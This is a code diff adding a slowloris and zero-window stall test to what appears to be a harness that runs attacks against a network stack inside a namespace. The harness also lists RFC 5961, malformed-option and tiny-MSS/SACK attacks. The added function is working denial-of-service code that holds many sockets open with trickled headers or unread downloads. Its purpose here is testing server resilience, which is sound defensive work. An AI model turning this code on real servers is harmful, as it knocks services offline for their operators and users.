@@ -477,8 +477,64 @@ def _tiny_mss_sack(mss: str, nbytes: str) -> dict[str, Any]:
     }
 
 
+def _slowloris(n_slow: str, n_stall: str, seconds: str) -> dict[str, Any]:
+    """Kernel sockets from inside the namespace: ``n_slow`` connections that send a request's
+    first line and then one header line a second, never finishing (slowloris), and ``n_stall``
+    that request 10 MB with a 4 KiB receive buffer and never read (zero window). Reports how
+    many of each the server closed within ``seconds``."""
+    import resource
+    import select
+
+    need = int(n_slow) + int(n_stall) + 64
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < need:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (max(need, soft), max(need, hard)))
+    slow: list[socket.socket] = []
+    stall: list[socket.socket] = []
+    for _ in range(int(n_stall)):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        s.settimeout(5)
+        s.connect((STACK, PORT))
+        s.sendall(f"GET /bytes/{BIG} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+        stall.append(s)
+    for _ in range(int(n_slow)):
+        s = socket.create_connection((STACK, PORT), timeout=5)
+        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
+        slow.append(s)
+    print("attacking", flush=True)
+
+    def closed(s: socket.socket) -> bool:
+        poller = select.poll()
+        poller.register(s, select.POLLERR | select.POLLHUP | select.POLLRDHUP)
+        return any(ev & (select.POLLERR | select.POLLHUP | select.POLLRDHUP) for _fd, ev in poller.poll(0))
+
+    deadline = time.monotonic() + float(seconds)
+    trickled = 0
+    while time.monotonic() < deadline:
+        for s in slow:
+            if not closed(s):
+                try:
+                    s.send(b"X-a: b\r\n")
+                    trickled += 1
+                except OSError:
+                    pass
+        time.sleep(1.0)
+    out = {
+        "slow": len(slow),
+        "stall": len(stall),
+        "slow_closed": sum(closed(s) for s in slow),
+        "stall_closed": sum(closed(s) for s in stall),
+        "trickled_lines": trickled,
+    }
+    for s in slow + stall:
+        s.close()
+    return out
+
+
 def main(argv: list[str]) -> int:
-    attacks = {"rfc5961": _rfc5961, "options": _malformed_options, "tiny_mss_sack": _tiny_mss_sack}
+    attacks = {"rfc5961": _rfc5961, "options": _malformed_options, "tiny_mss_sack": _tiny_mss_sack,
+               "slowloris": _slowloris}
     result = attacks[argv[0]](*argv[1:])
     print(json.dumps(result), flush=True)
     return 0
